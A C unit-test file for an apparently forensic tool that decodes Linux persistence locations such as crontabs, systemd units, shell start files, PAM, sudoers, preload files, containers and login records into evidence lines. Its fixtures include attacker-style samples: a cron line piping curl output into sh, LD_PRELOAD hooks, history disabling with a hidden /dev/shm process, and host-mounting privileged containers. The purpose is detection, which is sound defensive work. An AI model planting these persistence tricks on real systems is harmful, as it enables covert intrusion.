#include <stdarg.h>

#include "artefact/decode_expect_support.h"

TEST(cron_tables_tell_user_and_program)
{
	expect("/r/etc/crontab", "# x\nSHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
	       "@reboot ann /bin/sh /opt/x.sh >/dev/null\nnonsense\n",
	       "setting|cron variable|SHELL||/bin/sh||@:2\n"
	       "autostart|cron|17 * * * *|root|cd / && run-parts --report /etc/cron.hourly|/etc/cron.hourly|@:3\n"
	       "autostart|cron|@reboot|ann|/bin/sh /opt/x.sh >/dev/null|/opt/x.sh|@:4\n");
	expect("var/spool/cron/crontabs/ann", "*/5 * * * * curl http://x/ | sh\n",
	       "autostart|cron|*/5 * * * *|ann|curl http://x/ | sh|curl|@:1\n");
	expect("etc/anacrontab", "1 5 cron.daily run-parts /etc/cron.daily\n",
	       "autostart|cron|cron.daily|root|run-parts /etc/cron.daily|/etc/cron.daily|@:1\n");
}

TEST(at_jobs_tell_their_commands_and_owner)
{
	expect("var/spool/cron/atjobs/a0000101b2c3d4",
	       "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nHOME=/root; export HOME\n"
	       "cd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n/tmp/x -v\n",
	       "autostart|at|a0000101b2c3d4|root|/tmp/x -v|/tmp/x|@:10\n");
}

TEST(units_tell_what_they_start_and_as_whom)
{
	expect("usr/lib/systemd/system/a.service",
	       "[Unit]\nDescription=A\n[Service]\nExecStart=-/usr/bin/a --x \\\n --y\nUser=ann\n"
	       "Environment=\"LD_PRELOAD=/tmp/l.so\"\n[Install]\nWantedBy=multi-user.target\n",
	       "autostart|unit|a.service|ann|-/usr/bin/a --x  --y|/usr/bin/a|@:4\n"
	       "autostart|preload|a.service||LD_PRELOAD=/tmp/l.so|/tmp/l.so|@:7\n");
	expect("etc/systemd/system/b.timer", "[Timer]\nOnCalendar=daily\nUnit=c.service\n",
	       "autostart|timer|b.timer||daily|b.timer|@:2\n"
	       "autostart|timer|b.timer||c.service|b.timer|@:3\n");
	expect("etc/systemd/system/a.service.d/x.conf", "[Service]\nExecStartPost=/opt/y\n",
	       "autostart|unit|a.service||/opt/y|/opt/y|@:2\n");
}

TEST(scripts_that_run_by_their_place_are_told_whole)
{
	expect("etc/init.d/x", "#!/bin/sh\n", "autostart|rc script|x|||@|@\n");
	expect("etc/cron.daily/x", "#!/bin/sh\n", "autostart|cron|x|||@|@\n");
	expect("etc/update-motd.d/10-x", "#!/bin/sh\n", "autostart|login banner|10-x|||@|@\n");
	expect("etc/rc.local", "", "");
}

TEST(start_files_of_shells_tell_lines_that_do_more)
{
	expect("home/ann/.bashrc", "alias ll=ls\nexport HISTFILE=/dev/null\nnohup /dev/shm/.x &\n",
	       "autostart|profile|.bashrc|||@|@\n"
	       "setting|history off|.bashrc||export HISTFILE=/dev/null||@:2\n"
	       "autostart|profile|.bashrc||nohup /dev/shm/.x &|/dev/shm/.x|@:3\n");
	/* What stands in the place of a program; what only abbreviates one is nothing. */
	expect("home/ann/.bashrc", "sudo() {\nfunction ssh {\ncd() { builtin cd; }\nalias ls='ls --color'\n"
	       "alias ls=/opt/x/ls\nalias g=/usr/bin/git\npsql() { :; }\n",
	       "autostart|profile|.bashrc|||@|@\n"
	       "autostart|profile|.bashrc||sudo() {|sudo()|@:1\n"
	       "autostart|profile|.bashrc||function ssh {|function|@:2\n"
	       "autostart|profile|.bashrc||alias ls=/opt/x/ls|alias|@:5\n");
	expect("etc/environment", "PATH=\"/usr/bin\"\nLD_PRELOAD=/x.so\n",
	       "setting|environment|PATH||/usr/bin||@:1\n"
	       "autostart|preload|LD_PRELOAD||/x.so|/x.so|@:2\n");
}

TEST(login_files_tell_modules_keys_and_rights)
{
	expect("etc/pam.d/su", "auth sufficient pam_rootok.so\n@include common-auth\n"
	       "session [success=1 default=ignore] pam_exec.so quiet /usr/local/bin/x\n",
	       "autostart|pam|su||auth sufficient pam_rootok.so|pam_rootok.so|@:1\n"
	       "autostart|pam|su||session [success=1 default=ignore] pam_exec.so quiet /usr/local/bin/x|"
	       "/usr/local/bin/x|@:3\n");
	expect("root/.ssh/authorized_keys", "command=\"/bin/x y\",no-pty ssh-ed25519 AAAA me@there\n?\n",
	       "autostart|ssh key|me@there|root|/bin/x y|/bin/x|@:1\n");
	expect("etc/sudoers", "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\nann ALL=NOPASSWD: /usr/bin/vi\n",
	       "setting|sudo|Defaults||env_reset||@:1\n"
	       "autostart|sudoers|root|root|ALL=(ALL:ALL) ALL|ALL|@:2\n"
	       "autostart|sudoers|ann|ann|ALL=NOPASSWD: /usr/bin/vi|/usr/bin/vi|@:3\n");
	expect("etc/ssh/sshd_config", "PermitRootLogin yes\nAuthorizedKeysCommand /opt/k %u\n",
	       "setting|ssh server|PermitRootLogin||yes||@:1\n"
	       "autostart|ssh command|AuthorizedKeysCommand||/opt/k %u|/opt/k|@:2\n");
}

TEST(small_tables_tell_what_the_system_loads)
{
	expect("etc/ld.so.preload", "/lib/a.so /lib/b.so\n",
	       "autostart|preload|/lib/a.so||/lib/a.so|/lib/a.so|@:1\n"
	       "autostart|preload|/lib/b.so||/lib/b.so|/lib/b.so|@:1\n");
	expect("etc/udev/rules.d/9.rules", "ACTION==\"add\", RUN+=\"/bin/sh /x.sh\", RUN{builtin}+=\"kmod\"\n",
	       "autostart|udev|RUN|root|/bin/sh /x.sh|/x.sh|@:1\n");
	expect("etc/modprobe.d/x.conf", "install usb-storage /opt/run\nblacklist y\n",
	       "autostart|module|usb-storage|root|/opt/run|/opt/run|@:1\n");
	expect("usr/lib/binfmt.d/x.conf", ":py:E::py::/usr/bin/py:\n",
	       "autostart|binary format|py||/usr/bin/py|/usr/bin/py|@:1\n");
	expect("home/ann/.config/autostart/x.desktop", "[Desktop Entry]\nExec=/opt/x %U\n",
	       "autostart|xdg autostart|x.desktop|ann|/opt/x %U|/opt/x|@:2\n");
	expect("etc/apt/apt.conf.d/9", "DPkg::Post-Invoke { \"/opt/x || true\"; };\nAPT::X \"1\";\n",
	       "autostart|package hook|DPkg::Post-Invoke|root|/opt/x || true|/opt/x|@:1\n");
	expect("etc/logrotate.d/x", "/var/log/x {\n postrotate\n  /opt/r\n endscript\n}\n",
	       "autostart|log rotation|postrotate|root|/opt/r|/opt/r|@:3\n");
	expect("usr/lib/python3/dist-packages/x.pth", "import os; os.system('x')\n../y\n",
	       "autostart|python start|x.pth||import os; os.system('x')|@|@:1\n");
}

TEST(containers_tell_what_reaches_the_host)
{
	expect("var/lib/docker/containers/ab/config.v2.json",
	       "{\"Name\":\"/web\",\"Path\":\"sh\",\"Args\":[\"-c\",\"x\"],\"Config\":{\"Image\":\"evil\"}}",
	       "autostart|container|/web||sh -c x|sh|@\n"
	       "setting|container image|/web||evil||@\n"
	       "setting|container environment|/web||||@\n");
	expect("var/lib/docker/containers/ab/hostconfig.json",
	       "{\"Privileged\":true,\"Binds\":[\"/:/host\"]}",
	       "setting|container privileged|ab||true||@\n"
	       "setting|container mount|ab||/:/host||@\n");
}

TEST(set_id_programs_are_told_by_their_mode)
{
	struct decoded d = { .lines = buf_new(4096) };

	decode_into(&d, "usr/bin/x", "elf", SPAN("\x7f" "ELF"), 0104755);
	assert_int_equal(d.traces >= 1, 1);
	assert_true(span_find(buf_span(&d.lines), 0, SPAN("autostart|set user id|x|")) != SIZE_MAX);
	buf_free(&d.lines);
}

TEST(files_inside_packages_are_no_places)
{
	expect("x.deb!/data.tar.xz!/./etc/crontab", "17 * * * * root /x\n", "");
}

TEST(package_databases_tell_digests_and_conffiles)
{
	expect("var/lib/dpkg/info/coreutils.md5sums",
	       "0123456789abcdef0123456789abcdef  bin/ls\nnonsense\n",
	       "known|package file|coreutils||||/bin/ls\n");
	expect("var/lib/dpkg/status",
	       "Package: bash\nStatus: install ok installed\nVersion: 5.2\nConffiles:\n"
	       " /etc/bash.bashrc 0123456789abcdef0123456789abcdef\nDescription: x\n y\n\n"
	       "Package: gone\nStatus: deinstall ok config-files\nVersion: 1\n",
	       "known|conffile|bash||||/etc/bash.bashrc\n"
	       "known|package|bash 5.2||||-\n");
	expect("lib/apk/db/installed", "P:musl\nV:1.2\nF:lib\nR:ld.so\nZ:Q1AAAAAAAAAAAAAAAAAAAAAAAAAAA=\n",
	       "known|package file|musl 1.2||||/lib/ld.so\n");
}

TEST(package_logs_tell_what_was_installed_and_by_whom)
{
	expect("var/log/dpkg.log", "2022-01-31 12:00:00 install tree:amd64 <none> 2.1\n"
	       "2022-01-31 12:00:01 status installed tree\n",
	       "file|installed|tree:amd64||<none> 2.1||tree:amd64\n");
	expect("var/log/apt/history.log", "Start-Date: 2022-01-31  12:00:00\n"
	       "Commandline: apt install nmap\nRequested-By: ann (1000)\nEnd-Date: 2022-01-31  12:00:05\n",
	       "execution|ran||ann|apt install nmap|apt|@:4\n");
}

/* "NAME LENGTH\nBYTES\n", as evidence/collect_live writes. */
static void put_section(struct buf *to, const char *name, struct span bytes)
{
	buf_printf(to, "%s %zu\n", name, bytes.len);
	buf_add(to, bytes);
	buf_add_u8(to, '\n');
}

static void expect_live(const char *path, struct buf *text, const char *want)
{
	struct decoded d = { .lines = buf_new(1 << 16) };

	decode_into(&d, path, "data", buf_span(text), 0);
	assert_span(buf_span(&d.lines), want);
	buf_free(&d.lines);
	buf_clear(text);
}

TEST(a_running_machine_tells_processes_sockets_and_hidden_modules)
{
	struct buf text = buf_new(1 << 16);

	put_section(&text, "exe", SPAN("/tmp/x (deleted)"));
	put_section(&text, "cmdline", SPAN("x\0-v\0"));
	put_section(&text, "status", SPAN("Name:\tx\nPid:\t7\nUid:\t0\t0\t0\t0\n"));
	put_section(&text, "environ", SPAN("LD_PRELOAD=/a.so\0"));
	expect_live("files/proc/7/kanshiki.process", &text,
		    "process|running|x|uid 0|x -v|/tmp/x (deleted)|files/proc/7/kanshiki.process\n");
	put_section(&text, "tcp", SPAN("  sl  local_address rem_address   st\n"
		    "   0: 0100007F:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000 0 0 99\n"));
	put_section(&text, "owners", SPAN("socket:[99] 7\n"));
	expect_live("files/proc/kanshiki.sockets", &text,
		    "process|socket|listen|uid 0|||files/proc/kanshiki.sockets\n");
	put_section(&text, "modules", SPAN("ext4 1 0 - Live\n"));
	put_section(&text, "sys", SPAN("ext4\nbad\n"));
	expect_live("files/proc/kanshiki.modules", &text,
		    "process|module|ext4||||files/proc/kanshiki.modules\n"
		    "process|module|bad||||files/proc/kanshiki.modules\n");
	buf_free(&text);
}

TEST(histories_tell_commands_with_their_times)
{
	struct decoded d = { .lines = buf_new(4096) };

	decode_into(&d, "home/ann/.bash_history", "text", SPAN("#1380630977\nscp x y:\n"), 0);
	assert_span(buf_span(&d.lines), "execution|ran||ann|scp x y:|scp|home/ann/.bash_history:2\n");
	assert_int_equal(d.last.time / TIME_SECOND, 1380630977);
	buf_free(&d.lines);
	expect("root/.zsh_history", ": 1457771210:0;cd plaso\nls\n",
	       "execution|ran||root|cd plaso|cd|@:1\nexecution|ran||root|ls|ls|@:2\n");
	expect("home/ann/.local/share/fish/fish_history", "- cmd: ll\n  when: 1619736780\n- cmd: x\n",
	       "execution|ran||ann|ll|ll|@:2\nexecution|ran||ann|x|x|@:3\n");
	expect("home/ann/.python_history", "import os\n",
	       "execution|ran||ann|import os|python|@:1\n");
	expect("home/ann/.viminfo", ":wq\n> ~/notes\n",
	       "execution|ran||ann|:wq|vim|@:1\nfile|opened||ann||vim|~/notes\n");
	expect("home/ann/.wget-hsts", "x.test\t0\t1\t1619736780\t3\n",
	       "transfer|download|x.test|ann||wget|@:1\n");
	expect("home/ann/.bash_history", "", "file|empty history||ann|||@\n");
}

TEST(accounts_are_told_without_their_secrets)
{
	expect("etc/passwd", "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/sh\n",
	       "account|user|root|root||/bin/bash|/root\naccount|user|toor|toor||/bin/sh|/root\n");
	expect("etc/shadow", "root:*:19000::\nann:$y$j9T$secret$hash:19000:0\nbob::1:\n",
	       "setting|readable by all|shadow||0644||@\n"
	       "account|password|root|root|locked||@\naccount|password|ann|ann|set, method y||@\n"
	       "account|password|bob|bob|empty||@\n");
	expect("etc/group", "sudo:x:27:ann,bob\n",
	       "account|group|sudo|ann|||@\naccount|group|sudo|bob|||@\n");
}

TEST(host_and_settings_are_told)
{
	expect("etc/hostname", "web1\n", "host|name|web1||||@\n");
	expect("usr/lib/os-release", "NAME=x\nPRETTY_NAME=\"Debian 12\"\n",
	       "host|system|Debian 12||||@\n");
	expect("etc/hosts", "127.0.0.1 localhost\n10.0.0.1 update.test # x\n",
	       "setting|hosts entry|update.test||10.0.0.1||@:2\n");
	expect("drivers/etc/hosts", "\xef\xbb\xbf# written by Notepad\r\n10.0.0.1 www.example.com\r\n",
	       "setting|hosts entry|www.example.com||10.0.0.1||@:2\n");
	expect("etc/resolv.conf", "nameserver 9.9.9.9\n",
	       "setting|dns server|nameserver||9.9.9.9||@:1\n");
}

static void put(uint8_t *at, uint8_t type, const char *line, const char *user, uint32_t seconds)
{
	at[0] = type;
	memcpy(at + 8, line, strlen(line));
	memcpy(at + 44, user, strlen(user));
	for (int i = 0; i < 4; i++)
		at[340 + i] = (uint8_t)(seconds >> 8 * i);
}

TEST(sessions_are_paired_and_erased_records_told)
{
	static uint8_t file[384 * 4];
	struct decoded d = { .lines = buf_new(4096) };

	put(file, 7, "pts/0", "ann", 1000000000);
	put(file + 768, 8, "pts/0", "", 1000000060);
	put(file + 1152, 2, "~", "reboot", 1000000100);
	decode_into(&d, "var/log/wtmp", "data", span_of(file, sizeof file), 0);
	assert_span(buf_span(&d.lines), "session|logon|pts/0|ann|||var/log/wtmp\n"
					"session|boot|||||var/log/wtmp\n"
					"file|records erased|||||var/log/wtmp\n");
	assert_int_equal(d.last.count, 1);
	buf_free(&d.lines);
}

TEST(sessions_that_are_left_open_are_told_in_the_order_of_the_file)
{
	static const char *const lines[] = { "pts/3", "tty7", "pts/0", "pts/11", "tty1", "pts/4" };
	static uint8_t file[384 * 6];
	struct decoded d = { .lines = buf_new(4096) };
	struct buf expected = buf_new(4096);

	for (size_t i = 0; i < 6; i++) {
		put(file + 384 * i, 7, lines[i], "ann", 1000000000 + (uint32_t)i);
		buf_printf(&expected, "session|logon|%s|ann|||var/log/wtmp\n", lines[i]);
	}
	buf_add_u8(&expected, 0);
	decode_into(&d, "var/log/wtmp", "data", span_of(file, sizeof file), 0);
	assert_span(buf_span(&d.lines), (const char *)expected.at);
	buf_free(&expected);
	buf_free(&d.lines);
}

TEST(compose_files_tell_services_and_what_reaches_the_host)
{
	expect("srv/app/docker-compose.yml",
	       "services:\n  box:\n    image: r.example/box:1\n    entrypoint: /init\n    command: [\"/opt/run\", \"-v\"]\n"
	       "    privileged: true\n    user: root\n    volumes:\n      - data:/x\n      - /:/host\n    pid: host\n"
	       "  db:\n    image: db\n    volumes:\n      - type: bind\n        source: /var/run/docker.sock\n"
	       "        target: /s\n",
	       "autostart|container|box|root|/init /opt/run -v|/init|@:2\n"
	       "setting|container privileged|box||true||@:2\n"
	       "setting|container mount|box||data:/x /:/host||@:2\n"
	       "setting|container image|box||r.example/box:1||@:2\n"
	       "setting|container of the host|box||pid||@:2\n"
	       "autostart|container|db||||@:12\n"
	       "setting|container mount|db||/var/run/docker.sock:/s||@:12\n"
	       "setting|container image|db||db||@:12\n");
}

/* Blanks hide nothing: what is behind them is read, or said to be left out. */
TEST(lines_that_are_too_long_are_told)
{
	static const struct { const char *before, *between, *behind, *reason; size_t traces; } rows[] = {
		{ "", " ", "/lib/a.so\n", "", 1 },
		{ "/lib/b.so", " ", "/lib/a.so\n", "line 1 is over 65536 bytes: what stands behind is left out", 1 },
		{ "\n", "/x \\\n", "/lib/a.so\n", "", 70001 },
	};

	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
		struct decoded d = { .lines = buf_new((size_t)64 << 20) };
		struct buf text = buf_new((size_t)1 << 20);

		buf_text(&text, rows[i].before);
		for (size_t n = 0; n < 70000; n++)
			buf_text(&text, rows[i].between);
		buf_text(&text, rows[i].behind);
		decode_into(&d, "etc/ld.so.preload", "text", buf_span(&text), 0);
		assert_string_equal(d.reason, rows[i].reason);
		assert_in_range(d.traces, rows[i].traces, 2 * rows[i].traces);
		if (i == 2) {
			decode_into(&d, "etc/exports", "text", buf_span(&text), 0);
			assert_string_equal(d.reason, "line 2 is over 65536 bytes: what stands behind is left out");
		}
		buf_free(&d.lines);
		buf_free(&text);
	}
}
